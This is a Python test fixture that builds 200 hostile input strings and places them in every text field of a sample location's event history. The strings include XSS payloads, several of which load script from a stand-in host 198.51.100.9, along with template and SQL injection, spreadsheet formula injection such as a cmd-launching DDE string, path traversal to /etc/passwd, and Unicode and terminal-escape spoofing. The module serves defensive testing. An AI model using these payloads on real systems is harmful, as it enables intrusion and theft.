"""Two hundred texts that mean harm, and a location in which every text field holds each of them."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

from domain.limits import NAME_LENGTH, TEXT_LENGTH
from tests.cast import CATALOGUE, Json, fact

PLACE, CHAIN, OWNER = "harm", "harmed", "acc-eve"
PRODUCT = "9801547"
"""What `1337*7331` comes to, where a template takes it for a sum."""

_DO = "window.__hit=1"
_ELEMENTS = (
    "<script>{do}</script>",
    "<ScRiPt>{do}</sCrIpT>",
    "<script src=//198.51.100.9/x.js></script>",
    "<img src=x onerror={do}>",
    "<svg onload={do}>",
    "<svg><script>{do}</script></svg>",
    "<iframe srcdoc='<script>parent.{do}</script>'></iframe>",
    "<object data=javascript:{do}>",
    "<base href=//198.51.100.9/>",
    "<meta http-equiv=refresh content='0;url=//198.51.100.9/'>",
    "<link rel=stylesheet href=//198.51.100.9/x.css>",
    "<style>*{{display:none}}</style>",
    "<form action=//198.51.100.9/><input name=csrf autofocus onfocus={do}>",
    "<details open ontoggle={do}>",
    "<a href=javascript:{do}>here</a>",
    "<math><mi xlink:href=javascript:{do}>x</mi></math>",
    "<template><script>{do}</script></template>",
    "<!--><script>{do}</script-->",
    "<![CDATA[<script>{do}</script>]]>",
    "<body onpageshow={do}>",
)
_WAYS_OUT = ("{}", '">{}', "'>{}", "</title>{}", "</script>{}", "</textarea></select></option>{}", "-->{}")
_OTHERS = (
    f'" onmouseover={_DO} autofocus onfocus={_DO} x="',
    f"' onfocus={_DO} autofocus x='",
    f"` onfocus={_DO} autofocus `",
    f"javascript:{_DO}//",
    f"data:text/html,<script>{_DO}</script>",
    "{{1337*7331}}",
    "${1337*7331}",
    "#{1337*7331}",
    "{% for x in (1,) %}{{1337*7331}}{% endfor %}",
    "{{''.__class__.__mro__}}",
    "%7B%7B1337*7331%7D%7D",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://198.51.100.9\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred",
    "\x1b[2J\x1b[H",
    "\x07\x08\x0b\x0c\x7f",
    "one\ntwo\r\nthree\rfour",
    "tab\tstop",
    "\u202egnp.exe",
    "\u202dleft\u202c",
    "\u2066a\u2067b\u2068c",
    "\u2069\u2069\u202c\u202c",
    "\u200b\u200c\u200d\ufeff",
    "pay\u200bpal",
    "\u2028line\u2029paragraph",
    "\u061cمرحبا",  # noqa: RUF001
    "שלום עולם (abc) 123",
    "مرحبا بالعالم — 123 + abc",
    "👩‍👩‍👧‍👦🏳️‍🌈🇪🇺",
    "z̷̡̛̮͇̝̰a̶̧̨̱͚l̴̡̼̺g̵̢̰͎o̸̧",
    "＜script＞alert(1)＜/script＞",  # noqa: RUF001
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://198.51.100.9","x")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # noqa: RUF001
    "'=1+1",
    '","=1+1","',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "/locations/berlin/bill?on=2026-03-31#x",
    "null",
    "None",
    "undefined",
    "NaN",
    "\\u0000 %00",
    "'; DROP TABLE facts; --",
    "1' OR '1'='1",
    "wide" * 1000,
    "w " * 2000,
    "\u202e" * 4000,
    "<b>" * 1333,
    "&lt;script&gt;" * 280,
    "-" * 4000,
)
HOSTILE = tuple([way.format(each.format(do=_DO)) for way in _WAYS_OUT for each in _ELEMENTS] + list(_OTHERS))
"""All of them: 140 elements, each by seven ways out of where it stands, and 60 others."""

_BEGIN = datetime(2026, 6, 1, 9, tzinfo=UTC)


def hostile_facts() -> Iterator[Json]:
    """The facts of the location, in their order, as a file of history brings them."""
    for number, said in enumerate(_facts()):
        at = (_BEGIN + timedelta(seconds=number)).isoformat()
        yield {**said, "recorded_at": at, "effective_at": at, "source": (HOSTILE[number % len(HOSTILE)])[:NAME_LENGTH]}


def _facts() -> Iterator[Json]:
    place: Json = {"location": PLACE, "actor": OWNER}
    yield fact("LocationOpened", **place, name=HOSTILE[0], time_zone="Europe/Berlin", chain=CHAIN)
    rights = sorted(CATALOGUE.rights)
    yield fact("AccessGranted", **place, account=OWNER, name=HOSTILE[20], role="owner", rights=rights)
    for number, text in enumerate(HOSTILE):
        name, key = text[:NAME_LENGTH], "".join(each for each in text[:100] if each <= "\uffff")  # what a key may hold
        said: Json = {
            **place,
            "because": text,
            "change": f"{number} {text}"[:NAME_LENGTH],
            "device": {"id": f"dev-{number}", "ip": name, "user_agent": text, "session": name},
        }
        member, account = f"m-{number}", f"acc-{number}"
        yield fact("TeamMemberAdded", **said, member=member, name=name, position=text)
        yield fact("TeamMemberEdited", **said, member=member, before={key: text}, after={key: text[::-1], "new": text})
        yield fact("AddedToSchedule", **said, member=member)
        linked: Json = {"member": member} if number % 2 else {}
        yield fact(
            "UserInvited", **said, account=account, name=name, contact=text, role="viewer", scopes={"s": key}, **linked
        )
        yield fact(
            "RecordEdited", **said, entity=name, entity_id=name, before={key: text}, after={key: [text, {"a": key}]}
        )
        yield fact("DataExported", **said, what=name, format=name, rows=1)
        yield fact("SignInRefused", **said, account=account, why=text)
        yield fact("LogViewed", **said, filter={key: text})
        yield fact("CommandRefused", **said, command="invite", code="wrong", sentence=text, details={key: text})
        if number % 5 == 0:
            yield fact("TeamMemberDismissed", **said, member=member, dismissal_date="2026-06-01", reason=text)


assert len(HOSTILE) == 200
assert max(map(len, HOSTILE)) == TEXT_LENGTH
